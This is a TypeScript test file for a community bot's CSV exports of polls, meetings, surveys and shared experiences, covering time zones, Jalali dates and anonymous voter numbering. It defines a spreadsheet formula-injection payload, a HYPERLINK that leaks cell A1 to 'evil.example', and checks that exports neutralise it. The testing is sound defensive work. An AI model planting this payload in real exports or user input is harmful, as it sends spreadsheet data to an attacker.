import { parse as parseCsv } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvFile, jalaliDate } from '../../../src/features/archives/csv-file.ts';
import { localizedClock } from '../../../src/features/archives/csv-clock.ts';
import { surveyCsv, type CsvResponse } from '../../../src/features/surveys/survey-csv.ts';
import type { Survey } from '../../../src/features/surveys/survey-service.ts';
import { Translator } from '../../../src/i18n/translator.ts';
import { GROUP, Harness, privateChat, texts } from '../../support/harness.ts';
import type { SentMessage } from '../../support/memory-adapter.ts';
import { experienceCommunity, withButtons } from '../../support/experiences.ts';

/**
 * What a spreadsheet opens: no invisible direction marks in any cell, times in the community's zone
 * with their offset (and a Jalali date beside each when the community uses that calendar), an
 * anonymous poll's voters as short numbers, and no member's text run as a formula.
 */

const BIDI = /[\u200E\u200F\u061C\u202A-\u202E\u2066-\u2069]/;
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const TEHRAN_TIME = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+03:30$/;

function readCsv(messages: SentMessage[]): string[][] {
  const sent = messages.find((m) => m.file);
  if (!sent) throw new Error(`no file among: ${texts(messages)}`);
  const text = Buffer.from(sent.file!.contentBase64, 'base64').toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return parseCsv(text.slice(1), { relax_column_count: false }) as string[][];
}

/**
 * The poll a `/poll` posted. On a slow database server the first poll's live tally (edited at most
 * every 5 s) may go out in the same drain, before it: its buttons would vote in the first poll.
 */
function newPost(messages: SentMessage[]): SentMessage {
  const post = messages.find((m) => m.buttons && !m.replaceMessageId);
  if (!post) throw new Error(`no new post among: ${texts(messages)}`);
  return post;
}

/** The cell under `column` in each data row. */
function column(table: string[][], name: string): string[] {
  const index = table[0]!.indexOf(name);
  expect(index, `${name} in ${table[0]!.join(' | ')}`).toBeGreaterThanOrEqual(0);
  return table.slice(1).map((row) => row[index]!);
}

function expectNoMarks(table: string[][]): void {
  for (const row of table) for (const cell of row) expect(BIDI.test(cell), JSON.stringify(cell)).toBe(false);
}

describe('csvFile', () => {
  const clock = { timeZone: 'Asia/Tehran', calendar: 'persian', jalaliHeader: (c: string) => `${c}_jalali` };

  it('GIVEN cells a spreadsheet would run as formulas THEN each is written as text, with a leading quote', () => {
    const starts = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\u200F=1'];
    const file = csvFile(
      'x.csv',
      ['value'],
      starts.map((s) => [s]),
      clock,
    );
    const table = parseCsv(Buffer.from(file.contentBase64, 'base64').toString('utf8').slice(1)) as string[][];
    expect(table.slice(1).map((row) => row[0])).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "'=1"]);
  });

  it('GIVEN times and a Persian-calendar community THEN each time is in its zone with the offset, and a Jalali date follows', () => {
    const instant = new Date('2026-12-07T00:24:44Z');
    const file = csvFile(
      'x.csv',
      [{ time: 'at' }, 'n'],
      [
        [instant, 1],
        [null, 2],
      ],
      clock,
    );
    const table = parseCsv(Buffer.from(file.contentBase64, 'base64').toString('utf8').slice(1)) as string[][];
    expect(table).toEqual([
      ['at', 'at_jalali', 'n'],
      ['2026-12-07T03:54:44+03:30', '1405/09/16', '1'],
      ['', '', '2'],
    ]);
    const gregorian = csvFile('x.csv', [{ time: 'at' }], [[instant]], { ...clock, calendar: 'gregorian' });
    expect(Buffer.from(gregorian.contentBase64, 'base64').toString('utf8').slice(1)).toBe(
      'at\n2026-12-07T03:54:44+03:30\n',
    );
  });
});

describe('survey CSV', () => {
  it('GIVEN a Persian reader THEN the status and headers carry no direction marks, the time has its zone, and a text answer is no formula', () => {
    const t = new Translator().forLanguage('fa');
    const text = { en: 'Comments', fa: 'نظر', vi: 'Ý kiến', ru: 'Комментарии' };
    const survey = {
      id: 3,
      questions: [{ id: 1, position: 0, key: 'comments', kind: 'text', text, options: [], scale: null }],
    } as unknown as Survey;
    const responses: CsvResponse[] = [
      {
        startedAt: new Date('2026-12-06T20:00:00Z'),
        submittedAt: new Date('2026-12-06T21:00:00Z'),
        member: { id: 4, displayName: EVIL },
        answers: [{ questionId: 1, choices: [], scale: null, text: EVIL, skipped: false }],
      },
    ];
    const clock = localizedClock({ timeZone: 'Asia/Tehran', calendar: 'persian' }, t);
    const file = surveyCsv(t, 'fa', survey, responses, clock);
    const table = parseCsv(Buffer.from(file.contentBase64, 'base64').toString('utf8').slice(1)) as string[][];
    expectNoMarks(table);
    expect(table[0]).toEqual(['پاسخ‌دهنده', 'وضعیت', 'زمان ثبت', 'زمان ثبت (تاریخ هجری شمسی)', '1. نظر']);
    expect(table[1]).toEqual([`'${EVIL} (#4)`, 'کامل', '2026-12-07T00:30:00+03:30', '1405/09/16', `'${EVIL}`]);
  });
});

describe('exports of a Persian community', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await Harness.create();
  });
  afterEach(async () => {
    await h.close();
  });

  it('GIVEN members’ text starting with = and a Persian community in Tehran WHEN polls, meetings and experiences are exported THEN no cell is a formula or has a direction mark, times are +03:30 with a Jalali date, and anonymous voters are numbered', async () => {
    const c = await experienceCommunity(h, { language: 'fa' });
    await c.admin.says('/setup calendar persian', GROUP);
    await c.admin.says('/setup tz Asia/Tehran', GROUP);
    await c.admin.says('/start');
    const evil = h.person('evil', { name: EVIL, languageHint: 'fa' });
    await evil.says('/start', GROUP);
    await evil.says('/start');
    const sara = h.person('sara', { name: 'Sara', languageHint: 'fa' });
    await sara.says('/start', GROUP);
    await sara.says('/start');

    // A named poll whose question and option are formulas, voted for by a member whose name is one.
    const named = newPost(await c.admin.says(`/poll ${EVIL} | ${EVIL} | @SUM(A1)`, GROUP));
    await evil.presses(named, 0, GROUP);
    const pollCsv = readCsv(await c.admin.says('/export 1', GROUP));
    expectNoMarks(pollCsv);
    expect(pollCsv[0]).toEqual(['زمان', 'زمان (تاریخ هجری شمسی)', 'پیام‌رسان', 'عضو', 'گزینه']);
    expect(column(pollCsv, 'زمان')[0]).toMatch(TEHRAN_TIME);
    const votedAt = new Date(column(pollCsv, 'زمان')[0]!);
    expect(column(pollCsv, 'زمان (تاریخ هجری شمسی)')[0]).toBe(jalaliDate(votedAt, 'Asia/Tehran'));
    expect(column(pollCsv, 'عضو')[0]).toMatch(/^'=HYPERLINK/);
    expect(column(pollCsv, 'گزینه')[0]).toBe(`'${EVIL}`);

    // An anonymous multi-choice poll: voters are 1, 2… and one voter's two choices share a number.
    const secret = newPost(await c.admin.says('/poll کدام روزها؟ | شنبه | یکشنبه --anon --multi', GROUP));
    await evil.presses(secret, 0, GROUP);
    await evil.presses(secret, 1, GROUP);
    await sara.presses(secret, 1, GROUP);
    const anonymous = readCsv(await c.admin.says('/export 2', GROUP));
    const voters = column(anonymous, 'عضو');
    expect(voters).toHaveLength(3);
    expect([...new Set(voters)].sort()).toEqual(['1', '2']);
    const rowsPerVoter = ['1', '2'].map((n) => voters.filter((v) => v === n).length).sort();
    expect(rowsPerVoter).toEqual([1, 2]);

    const polls = readCsv(await c.admin.says('/export polls csv', GROUP));
    expectNoMarks(polls);
    expect(column(polls, 'question')[0]).toBe(`'${EVIL}`);
    expect(column(polls, 'option')).toContain(`'${EVIL}`);
    expect(column(polls, 'option')).toContain("'@SUM(A1)");
    expect(column(polls, 'created_at')[0]).toMatch(TEHRAN_TIME);
    expect(column(polls, 'created_at_jalali')[0]).toMatch(/^14\d\d\/\d\d\/\d\d$/);

    await c.admin.says(`/meeting 2027-06-08 10:00 | ${EVIL} | https://x.example/1 | ${EVIL}`, GROUP);
    const meetings = readCsv(await c.admin.says('/export meetings csv', GROUP));
    expectNoMarks(meetings);
    expect(column(meetings, 'title')[0]).toBe(`'${EVIL}`);
    expect(column(meetings, 'agenda')[0]).toBe(`'${EVIL}`);
    expect(column(meetings, 'starts_at')[0]).toBe('2027-06-08T10:00:00+03:30');
    expect(column(meetings, 'starts_at_jalali')[0]).toBe('1406/03/18');

    await evil.says(`/share ${EVIL} | ${EVIL}`);
    await c.curator.presses(withButtons(await c.curator.says('/review', privateChat('curator'))), 0);
    const experiences = readCsv(await c.curator.says('/export experiences csv', privateChat('curator')));
    expectNoMarks(experiences);
    expect(column(experiences, 'title')[0]).toBe(`'${EVIL}`);
    expect(column(experiences, 'text')[0]).toBe(`'${EVIL}`);
    expect(column(experiences, 'author')[0]).toBe(`'${EVIL}`);
    expect(column(experiences, 'submitted_at')[0]).toMatch(TEHRAN_TIME);
    expect(column(experiences, 'submitted_at_jalali')[0]).toMatch(/^14\d\d\/\d\d\/\d\d$/);
  });
});
